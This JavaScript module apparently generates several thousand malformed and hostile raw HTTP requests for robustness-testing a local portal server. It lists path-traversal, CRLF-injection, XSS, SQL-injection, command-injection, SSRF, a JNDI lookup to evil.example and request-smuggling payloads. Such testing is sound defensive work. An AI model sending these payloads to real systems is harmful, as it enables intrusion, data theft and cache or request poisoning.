// The raw requests, made from tables: {name, bytes (latin1), portal, most, expect, fin, cut, slow, head}.
import { random } from './kit.mjs';

const CONTROLS = [...Array(32).keys(), 127];
const hex = (n) => n.toString(16).padStart(2, '0');
const FORM = 'application/x-www-form-urlencoded';

const PATHS = ['', '?', '*', '.', '..', '/..', '/../', '/../../etc/passwd', '/./rettigheter', '/rettigheter/.', '/rettigheter/..', '/a/../rettigheter',
  '//rettigheter', '///', '//evil.example/x', '/\\evil.example', '\\rettigheter', '/rettigheter/', '/rettigheter//', '/rettigheter;x', '/rettigheter;/../fil',
  '/rettigheter%20', '/rettigheter%2e', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc/passwd', '/%252e%252e/', '/..%5c..%5c', '/%c0%ae%c0%ae/', '/%e0%80%af', '/%f0%80%80%af',
  '/%c1%9c', '/%ff', '/%fe%ff', '/%ed%a0%80', '/%f4%90%80%80', '/%00', '/fil%00.pdf', '/fil?id=%00', '/%0a', '/%0d%0aSet-Cookie:%20a=b', '/%09', '/%7f', '/%u002e', '/%', '/%2', '/%zz', '/%%32%65',
  '/RETTIGHETER', '/Rettigheter', '/rettigheter.php', '/rettigheter/index.php', '/index.html', '/.git/config', '/.env', '/static', '/static/', '/static/..', '/static/../portvakt.conf',
  '/static../', '/static../portvakt.conf', '/static/%2e%2e/portvakt.conf', '/static/..%2fportvakt.conf', '/static//etc/passwd', '/static/errors/', '/static/errors/400.html', '/_error/', '/_error/400.html', '/_error/../x',
  '/robots.txt/', '/robots.txt%00', '/fil/', '/fil/x', '/fil%3fid=x', '/apnet.csv/', '/apnet.csv.', '/kode', '/retur', '/bakkanal', '/%66il', '/r%65ttigheter', '/rettigheter#x', '#', '/#/../x', '/~root', '/:80', '/@evil.example', '/<script>', "/'\"", '/${7*7}', '/{{7*7}}', '/%24%7b7*7%7d', '/|id', '/;id', '/`id`', '/$(id)', '/-', '/_', '/server-status', '/nginx_status', '/phpinfo.php', '/cgi-bin/', '/wp-login.php'];

const QUERIES = ['', '&', '&&&', '=', '=x', 'x', 'x=', '?', '??', 'words', 'words=', 'words=%', 'words=%2', 'words=%gg', 'words=%00', 'words=%0a', 'words=%ff', 'words=%c0%af', 'words=%ed%a0%80', 'words=a&words=b', 'words[]=a', 'words[a]=b', 'words.x=1',
  "words='", "words=' or 1=1 --", 'words="><script>alert(1)</script>', 'words=%3Cscript%3E', 'words=../../etc/passwd', 'words=${jndi:ldap://evil.example/a}', 'words=%u0041', 'words=a;words=b', 'words=a%26words=b', 'Words=a', 'words%00=a',
  'type=VEDTAK', 'type=%20', 'type=vedtak%0d', 'type=VEDTAK&type=PLAN', 'cursor=', 'cursor=x', 'cursor=-1', 'cursor=AAAAAAAA', 'cursor=999999999999999999999', 'cursor=%2e%2e', 'id=', 'id=1', 'id=-1', 'id=0', 'id=AAAAAAAAAAAAAAAAAAAAAA', 'id=..', 'id=null', 'id=true', 'id[]=1', 'id=1e400',
  'csrf=x', 'once=x', 'ok=x', 'ok=AAAAAAAAAAAAAAAAAAAAAA', 'to=//evil.example', 'next=https://evil.example', 'Config.VarEscapeMode=none', 'Page.title=x', 'Query.words=x', 'hdf.loadpaths.0=/etc', 'a'.repeat(3000), `words=${'a'.repeat(3000)}`, `words=${'%61'.repeat(1200)}`, `words=${'%c3%a6'.repeat(500)}`];

const METHODS = ['HEAD', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'TRACK', 'CONNECT', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE', 'LOCK', 'UNLOCK', 'SEARCH', 'PURGE', 'DEBUG', 'FOO', 'get', 'Get', 'gET', 'GETT', 'GE', 'G', 'GET/', 'GET\t', 'GET\0', 'POST ', ' GET', '\tGET', 'GE T', 'GÉT', 'GET,POST', '"GET"', 'X'.repeat(17), 'X'.repeat(300), 'PRI', 'LINK', 'REPORT', 'SUBSCRIBE', '-', '_', 'GET_X', '1GET'];

const VERSIONS = ['', 'HTTP', 'HTTP/', 'HTTP/0.9', 'HTTP/1', 'HTTP/1.', 'HTTP/1.0', 'HTTP/1.2', 'HTTP/1.9', 'HTTP/1.10', 'HTTP/1.01', 'HTTP/01.1', 'HTTP/11.1', 'HTTP/2', 'HTTP/2.0', 'HTTP/3.0', 'HTTP/9.9', 'http/1.1', 'Http/1.1', 'HTTP/1,1', 'HTTP/1.1.1', 'HTTP/+1.1', 'HTTP/-1.1', 'HTTP/1.1x', 'HTTP/1.1\t', 'HTTPS/1.1', 'XHTTP/1.1', 'HTTP /1.1', 'HTTP/ 1.1', 'HTTP/1.1 HTTP/1.1', 'HTTP/A.B', 'HTTP/1.1\0', 'RTSP/1.0', 'ICY'];

const TE = ['chunked', 'Chunked', 'CHUNKED', ' chunked', '\tchunked', 'chunked ', 'chunked\t', '"chunked"', "'chunked'", 'chunked, identity', 'identity, chunked', 'identity', 'chunked, chunked', 'gzip, chunked', 'gzip', 'deflate', 'xchunked', 'chunkedx', 'chunked;q=1', 'chunked;', ',chunked', 'chunked,', '\x0bchunked', '\x0cchunked', 'chunked\0', '\0chunked', 'chu\0nked', 'chunked\r', 'cHuNkEd', 'ch\u00fanked', '', 'null', '*', 'trailers', 'compress, chunked', 'chunked\r\n x'];
const TE_NAMES = ['Transfer-Encoding', 'transfer-encoding', 'Transfer-encoding', 'TRANSFER-ENCODING', 'Transfer_Encoding', 'Transfer-Encoding ', ' Transfer-Encoding', 'Transfer-Encoding\t', 'X-Transfer-Encoding', 'Transfer-Encodin\xe7', 'Transfer-Encoding\0', 'TE'];
const LENGTHS = ['', ' ', '-1', '+3', '3 ', ' 3', '03', '0x3', '3.0', '3e0', '3,3', '3, 3', '3;', '3\t', '\t3', '3\0', 'three', '\xb3', '99999999999999999999', '18446744073709551619', '9223372036854775807', '4294967299', '-9223372036854775808', '65537', '262145', '1e3', 'NaN', 'null', '٣', '3\r\n', '1_0', '0b11', '0o3', '3 3', '"3"'];

const NAMES = ['Host', 'Content-Length', 'Transfer-Encoding', 'Cookie', 'Content-Type', 'Authorization', 'Range', 'If-Range', 'Connection', 'Accept', 'Accept-Language', 'Accept-Encoding', 'User-Agent', 'Referer', 'Origin', 'Sec-Fetch-Site', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Original-URL', 'X-Rewrite-URL', 'X-HTTP-Method-Override', 'Proxy', 'Forwarded', 'Expect', 'Upgrade', 'If-None-Match', 'If-Modified-Since', 'Via', 'Te', 'Trailer', 'Date', 'From', 'Max-Forwards', 'Keep-Alive', 'X-Portvakt-Edge', 'Portvakt-Edge', 'PORTVAKT_EDGE', 'Remote-User', 'Request-Method', 'Script-Name'];
const VALUES = ['', 'x', 'bytes=0-', "' or 1=1", '<script>alert(1)</script>', '%0d%0aSet-Cookie: a=b', 'a'.repeat(2000)];

const COOKIES = ['', ';', ';;;;', '=', '=x', 'x', '__Host-pv', '__Host-pv=', '__Host-pv=;', '__Host-pv=x', '__Host-pv="x"', '__Host-pv=x y', '__Host-pv=x\ty', '__Host-pv==', '__Host-pv=a=b', '__Host-pv=a; __Host-pv=a', '__Host-pv=a;__Host-pv=b', '__Host-pv=a,__Host-pv=b', '__host-pv=a', '__HOST-PV=a', '__Host-pv =a', ' __Host-pv=a', '__Host-pv\t=a', '__Host-pv=\x80', '__Host-pv=æ', "__Host-pv='; select 1", '__Host-pv=%00', '__Host-pv=../..', `__Host-pv=${'A'.repeat(42)}`, `__Host-pv=${'A'.repeat(43)}`, `__Host-pv=${'A'.repeat(44)}`, `__Host-pv=${'A'.repeat(4000)}`, `__Host-pv=${'-'.repeat(43)}`, '$Version=1; __Host-pv=a', '__Host-=a', '__Host-pv-lang=xx', '__Host-pv-lang=nb; __Host-pv-lang=en', '__Host-pv-lang=../../etc', '__Host-pv-begin=x', `__Host-pv-begin=${'A'.repeat(43)}`, '__Secure-pv=a', 'pv=a', 'pv-lang=en', `${'a=b; '.repeat(800)}`, `${'__Host-a=b; '.repeat(100)}`, `${'x'.repeat(7000)}=1`, 'a="; __Host-pv=a"', 'a=b\x01; c=d', '__Host-pv=\\', '__Host-pv=a\\;b', '__Host-pv=<script>', '__Host-pv={}', '__Host-pv=[]', '__Host-pv=null'];

const HOSTS = ['', ' ', '.', 'localhost', 'minside', 'minside.localhost', 'MINSIDE.localhost:PORT', 'minside.localhost.:PORT', 'minside.localhost:PORT.', 'minside.localhost:0', 'minside.localhost:99999', 'minside.localhost:PORTx', 'minside.localhost:PORT:PORT', 'minside.localhost:PORT/', 'minside.localhost:PORT/x', 'minside.localhost:PORT?x', 'minside.localhost:PORT#x', 'minside.localhost:PORT@evil.example', 'evil.example@minside.localhost:PORT', 'x:y@minside.localhost:PORT', 'logginn.localhost:PORT', 'samhandling.localhost:PORT', 'evil.example', '127.0.0.1:PORT', '[::1]:PORT', '[::1', 'minside.localhost:PORT, evil.example', 'minside.localhost:PORT evil.example', 'minside.localhost\t:PORT', 'minside.localhost\0:PORT', 'minside.localhost%00:PORT', 'minside.localhost%2eevil.example', '*.localhost', '_', '-', 'xn--minside', 'ｍinside.localhost', `${'a'.repeat(64)}.localhost`, `${'a.'.repeat(200)}localhost`, 'minside..localhost:PORT', '.minside.localhost:PORT', '/', '\\', 'file:///etc/passwd', 'https://minside.localhost:PORT', 'minside.localhost:PORT"', "minside.localhost:PORT'", '<script>'];

const TARGETS = ['https://minside.localhost:PORT/rettigheter', 'http://minside.localhost:PORT/rettigheter', 'https://minside.localhost/rettigheter', 'https://logginn.localhost:PORT/', 'https://samhandling.localhost:PORT/rettigheter', 'https://evil.example/', 'http://169.254.169.254/', 'https://', 'https:///', 'https:/rettigheter', 'https:rettigheter', 'file:///etc/passwd', 'javascript:alert(1)', 'minside.localhost:PORT', 'evil.example:443', 'https://x@minside.localhost:PORT/', 'https://minside.localhost:PORT@evil.example/', 'https://minside.localhost:PORT?x', 'https://minside.localhost:PORT#x', 'HTTPS://MINSIDE.LOCALHOST:PORT/rettigheter', 'https://minside.localhost:PORT/../..', 'https://[::1]:PORT/', 'ftp://minside.localhost/', '//minside.localhost/rettigheter', 'https:\\\\evil.example', 'unix:/tmp/x', '?x=y', 'rettigheter', './rettigheter', 'https://minside.localhost:PORT/fil%00'];

const BODIES = ['', '&', '=', 'language', 'language=', 'language=nn', 'language=nn&language=en', 'language=%', 'language=%6', 'language=%zz', 'language=%00', 'language=%c0%ae', 'language=%ff', 'language=%ed%a0%80', 'language=\xff', 'language=\0', 'language=nn\0', '\0', 'language=nn&admin=1', 'language[]=nn', 'LANGUAGE=nn', 'language=nn;to=/', 'language=nn&to=//evil.example', 'to=/&csrf=x', `csrf=${'A'.repeat(43)}&language=nn&to=/`, `once=${'A'.repeat(43)}`, '{"language":"nn"}', '<x/>', '--x\r\nContent-Disposition: form-data; name="language"\r\n\r\nnn\r\n--x--', 'a=1&'.repeat(70), 'a'.repeat(60000), `language=${'a'.repeat(60000)}`, `${'%61'.repeat(20000)}`, '+'.repeat(5000), '&'.repeat(60000), '='.repeat(60000), 'language=nn&'.repeat(65)];
const TYPES = ['', 'text/plain', 'text/html', 'application/json', 'application/xml', 'multipart/form-data', 'multipart/form-data; boundary=x', 'multipart/form-data; boundary=', FORM, `${FORM};`, `${FORM}; charset=utf-8`, `${FORM};charset=utf-8`, `${FORM}; charset=iso-8859-1`, `${FORM}; charset=utf-7`, `${FORM}; charset=utf-8; x=y`, `${FORM}x`, `x${FORM}`, `${FORM}, text/plain`, FORM.toUpperCase(), ` ${FORM}`, `${FORM}\t`, `"${FORM}"`, 'application/x-www-form-urlencoded\0', 'application/octet-stream', '*/*', '/', 'a'.repeat(500)];

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: minside.localhost:PORT\r\nX: SMUGGLED\r\n\r\n';

export function requests({ port, cookie, seed }) {
  const rows = [];
  const fill = (text) => text.replaceAll('PORT', String(port));
  const host = `Host: minside.localhost:${port}\r\n`;
  const close = 'Connection: close\r\n';
  const add = (name, bytes, more = {}) => rows.push({ name, bytes: Array.isArray(bytes) ? bytes : fill(bytes), ...more });
  const show = (text) => JSON.stringify(text.length > 40 ? `${text.slice(0, 36)}… (${text.length})` : text);
  const get = (path, headers = '', version = 'HTTP/1.1', method = 'GET') => `${method} ${path} ${version}\r\n${host}${close}${headers}\r\n`;
  const post = (body, headers = '', length = Buffer.byteLength(body, 'latin1'), path = '/sprak') => `POST ${path} HTTP/1.1\r\n${host}${close}Cookie: ${cookie}\r\n${headers || `Content-Type: ${FORM}\r\n`}Content-Length: ${length}\r\n\r\n${body}`;

  for (const path of PATHS) add(`path ${show(path)}`, get(path));
  for (const path of PATHS) add(`path ${show(path)} with a session`, get(path, `Cookie: ${cookie}\r\n`));
  for (const path of PATHS.slice(0, 60)) add(`login: path ${show(path)}`, get(path).replace('minside', 'logginn'), { portal: 'login' });
  for (const query of QUERIES) for (const path of ['/dokumenter', '/fil', '/rolle']) add(`query ${path}?${show(query)}`, get(`${path}?${query}`, `Cookie: ${cookie}\r\n`));
  for (const query of QUERIES) add(`login: query /start?${show(query)}`, get(`/start?${query}`).replace('minside', 'logginn'), { portal: 'login' });
  for (const method of METHODS) add(`method ${show(method)}`, get('/rettigheter', '', 'HTTP/1.1', method), { head: method === 'HEAD' });
  for (const method of ['PUT', 'DELETE', 'PATCH', 'FOO', 'GET', 'HEAD']) add(`method ${method} with a body`, get('/rettigheter', 'Content-Length: 3\r\n', 'HTTP/1.1', method) + 'abc', { head: method === 'HEAD', most: 1 });
  for (const version of VERSIONS) add(`version ${show(version)}`, get('/rettigheter', '', version));
  for (const eol of ['\n', '\r', '\r\r\n', '\n\r', '\r\n\r', '\0\r\n', '\u000b', '\u2028']) add(`line ends ${show(eol)}`, get('/rettigheter').replaceAll('\r\n', eol), { fin: true });
  for (const [name, bytes] of Object.entries({ 'nothing': '', 'a line end': '\r\n', 'many line ends': '\r\n'.repeat(50), 'zeros': '\0'.repeat(100), 'TLS in TLS': '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', 'the HTTP/2 preface': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'HTTP/0.9': 'GET /rettigheter\r\n', 'HTTP/0.9 without address': 'GET\r\n', 'HTTP/0.9 with a whole address': 'GET https://minside.localhost:PORT/rettigheter\r\n', 'HTTP/0.9 with a bad address': 'GET https://minside.localhost:PORT/%00\r\n', 'HTTP/0.9 and POST': 'POST https://minside.localhost:PORT/sprak\r\n\r\nlanguage=nn', 'SMTP': 'EHLO x\r\n', 'a cut request line': 'GET /rett', 'cut headers': `GET /rettigheter HTTP/1.1\r\n${host}Accept: tex`, 'binary': String.fromCharCode(...Array(256).keys()), 'a long first line': 'A'.repeat(20000) })) add(`not a request: ${name}`, bytes, { fin: true });

  for (const byte of CONTROLS) {
    const c = String.fromCharCode(byte);
    if (byte !== 10 && byte !== 13) add(`byte ${hex(byte)} in the address`, get(`/rettig${c}heter`), { expect: [400, 404, 505] });
    if (byte !== 10) add(`byte ${hex(byte)} in a header's name`, get('/rettigheter', `X-${c}A: b\r\n`));
    if (byte !== 10) add(`byte ${hex(byte)} in a header's value`, get('/rettigheter', `X-A: b${c}c\r\n`));
    add(`%${hex(byte)} in the address`, get(`/rettigheter%${hex(byte)}`), { expect: [400] });
    add(`%${hex(byte)} in the query`, get(`/dokumenter?words=a%${hex(byte)}b`, `Cookie: ${cookie}\r\n`), { expect: [400] });
    add(`%${hex(byte)} in a form`, post(`language=n%${hex(byte)}n&to=/`));
    add(`byte ${hex(byte)} in a form`, post(`language=n${c}n&to=/`));
    add(`byte ${hex(byte)} in a cookie`, get('/rettigheter', byte === 10 || byte === 13 ? 'Cookie: a\r\n' : `Cookie: __Host-pv=a${c}b\r\n`));
  }
  for (let byte = 128; byte < 256; byte += 8) {
    add(`byte ${hex(byte)} in the address`, get(`/a${String.fromCharCode(byte)}`), { expect: [400] });
    add(`byte ${hex(byte)} in a header`, get('/rettigheter', `Accept-Language: ${String.fromCharCode(byte)}\r\n`));
    add(`%${hex(byte)} in the query`, get(`/dokumenter?words=%${hex(byte)}`, `Cookie: ${cookie}\r\n`), { expect: [400] });
  }

  for (const name of NAMES) {
    for (const value of VALUES) add(`${name}: ${show(value)}`, get('/rettigheter', `${name}: ${value}\r\n`));
    add(`${name} twice`, get('/rettigheter', `${name}: x\r\n${name}: y\r\n`));
    add(`${name} of 9 kB`, get('/rettigheter', `${name}: ${'a'.repeat(9000)}\r\n`), { expect: [400, 431] });
  }
  for (const value of COOKIES) add(`cookie ${show(value)}`, get('/rettigheter', `Cookie: ${value}\r\n`));
  for (const value of COOKIES) add(`login: cookie ${show(value)}`, get('/', `Cookie: ${value}\r\n`).replace('minside', 'logginn'), { portal: 'login' });
  add('forty headers of 4 kB', get('/rettigheter', `X-A: ${'a'.repeat(4000)}\r\n`.repeat(40)), { expect: [431, 400] });
  add('three hundred small headers', get('/rettigheter', Array.from({ length: 300 }, (_, i) => `X-${i}: 1\r\n`).join('')));
  add('a thousand small headers', get('/rettigheter', Array.from({ length: 1000 }, (_, i) => `X-${i}: 1\r\n`).join('')));
  for (const value of HOSTS) add(`Host: ${show(value)}`, `GET /rettigheter HTTP/1.1\r\nHost: ${value}\r\n${close}\r\n`);
  for (const target of TARGETS) add(`target ${show(target)}`, get(target));

  for (const value of TE) {
    add(`GET, Transfer-Encoding: ${show(value)}`, get('/rettigheter', `Transfer-Encoding: ${value}\r\n`) + `0\r\n\r\n${SMUGGLED}`);
    add(`POST, length 4 and Transfer-Encoding: ${show(value)}`, `POST /sprak HTTP/1.1\r\n${host}Content-Type: ${FORM}\r\nContent-Length: 4\r\nTransfer-Encoding: ${value}\r\n${close}\r\n5c\r\n${SMUGGLED}0\r\n\r\n`, { fin: true });
    add(`POST, Transfer-Encoding: ${show(value)} before the length`, `POST /sprak HTTP/1.1\r\n${host}Content-Type: ${FORM}\r\nTransfer-Encoding: ${value}\r\nContent-Length: 5\r\n${close}\r\n0\r\n\r\n${SMUGGLED}`, { fin: true });
  }
  for (const name of TE_NAMES) add(`${show(name)}: chunked beside a length`, `POST /sprak HTTP/1.1\r\n${host}Content-Type: ${FORM}\r\nContent-Length: 5\r\n${name}: chunked\r\n${close}\r\n0\r\n\r\n${SMUGGLED}`, { fin: true });
  for (const size of ['0', '00', '000000000', '-1', '+3', '0x3', '3 ', ' 3', '3;x=y', '3;', 'g', '', 'ffffffff', 'ffffffffffffffff', '10000000000000003', '3\n', '7fffffffffffffff']) add(`chunk size ${show(size)}`, `POST /sprak HTTP/1.1\r\n${host}Content-Type: ${FORM}\r\nTransfer-Encoding: chunked\r\n${close}\r\n${size}\r\nabc\r\n0\r\n\r\n${SMUGGLED}`, { fin: true });
  for (const value of LENGTHS) {
    add(`POST, length ${show(value)}`, post('a=b', '', value), { fin: true });
    add(`GET, length ${show(value)}`, get('/rettigheter', `Content-Length: ${value}\r\n`), { fin: true });
  }
  for (const [a, b] of [['3', '4'], ['3', '3'], ['0', '3'], ['3', '0'], ['3', 'x']]) add(`lengths ${a} and ${b}`, post('a=b', `Content-Type: ${FORM}\r\nContent-Length: ${a}\r\n`, b), { fin: true });
  for (const length of [0, 1, 2, 10, 100, 5000, 65536]) add(`a body of 11 announced as ${length}`, post('language=nn', '', length), { fin: true, most: 1 });
  for (const length of [12, 100, 65000]) add(`a body that stops, ${length} announced`, post('language=nn', '', length), { slow: true });
  for (let i = 0; i < 40; i += 1) { const bytes = post('language=nn&to=/'); add(`cut after ${Math.floor(bytes.length * i / 40)} bytes`, bytes.slice(0, Math.floor(bytes.length * i / 40)), { fin: true }); }
  for (let i = 1; i < 20; i += 1) { const bytes = post('language=nn&to=/'); add(`dropped after ${Math.floor(bytes.length * i / 20)} bytes`, bytes.slice(0, Math.floor(bytes.length * i / 20)), { cut: true }); }
  for (const body of BODIES) add(`form ${show(body)}`, post(body), { expect: [400, 403, 413] });
  for (const type of TYPES) add(`form as ${show(type)}`, post('language=nn&to=/', `Content-Type: ${type}\r\n`), { expect: [400, 403] });
  for (const value of ['100-continue', '100-Continue', '100-continue, x', 'x', '']) add(`Expect: ${show(value)}`, post('language=nn', `Content-Type: ${FORM}\r\nExpect: ${value}\r\n`));
  for (const value of ['h2c', 'websocket', 'TLS/1.3', 'HTTP/2.0', 'x']) add(`Upgrade: ${value}`, get('/rettigheter', `Upgrade: ${value}\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n`).replace('Connection: close', 'Connection: Upgrade, HTTP2-Settings'));
  for (const value of ['bytes=', 'bytes=-', 'bytes=-0', 'bytes=0-', 'bytes=5-2', 'bytes=0-0,1-1', `bytes=${'0-,'.repeat(500)}`, 'bytes=99999999999999999999-', 'bytes=-99999999999999999999', 'bytes=a-b', 'bytes = 0-1', 'octets=0-1', 'bytes=0--1', 'bytes=0-1;x', 'bytes=\u0660-']) for (const path of ['/static/style.css', '/fil?id=AAAAAAAAAAAAAAAAAAAAAA']) add(`Range ${show(value)} of ${path}`, get(path, `Cookie: ${cookie}\r\nRange: ${value}\r\n`));
  add('two requests in one write', get('/rettigheter').replace(close, '') + get('/finnes-ikke'), { most: 2 });
  add('fifty requests in one write', get('/robots.txt').replace(close, '').repeat(49) + get('/finnes-ikke'), { most: 50 });
  add('one byte at a time', [...get('/rettigheter')], { must: true });
  add('an address of 4,000 bytes', get(`/${'a'.repeat(4000)}`), { expect: [404] });
  add('an address of 5,000 bytes', get(`/${'a'.repeat(5000)}`), { expect: [414] });
  add('an address of 9,000 bytes', get(`/${'a'.repeat(9000)}`), { expect: [414] });
  add('five hundred parameters', get(`/dokumenter?${'a=b&'.repeat(500)}`, `Cookie: ${cookie}\r\n`), { expect: [400] });
  mutate(rows, seed, [get('/dokumenter?words=HEMMELIG', `Cookie: ${cookie}\r\n`), post('language=nn&to=/'), get('/fil?id=AAAAAAAAAAAAAAAAAAAAAA', `Cookie: ${cookie}\r\nRange: bytes=0-9\r\n`)]);
  return rows;
}

// Honest requests with bytes flipped, inserted, removed, doubled.
function mutate(rows, seed, bases) {
  const r = random(seed);
  const odd = ['\0', '\r', '\n', '\t', ' ', ':', ';', '=', '%', '/', '\\', '?', '&', '"', '\x7f', '\x80', '\xff', '\r\n', '\r\n\r\n', '%00', '%0a', '..'];
  for (let i = 0; i < 250; i += 1) {
    let bytes = r.pick(bases);
    for (let n = 1 + r.below(3); n > 0; n -= 1) {
      const at = r.below(bytes.length);
      bytes = r.pick([
        () => bytes.slice(0, at) + String.fromCharCode(bytes.charCodeAt(at) ^ (1 << r.below(8))) + bytes.slice(at + 1),
        () => bytes.slice(0, at) + r.pick(odd) + bytes.slice(at),
        () => bytes.slice(0, at) + bytes.slice(at + 1 + r.below(8)),
        () => bytes.slice(0, at) + bytes.slice(at, at + 20) + bytes.slice(at),
      ])();
    }
    rows.push({ name: `mutant ${i} of seed ${seed}`, bytes, fin: true, most: 3, head: /^HEAD/.test(bytes) });
  }
}
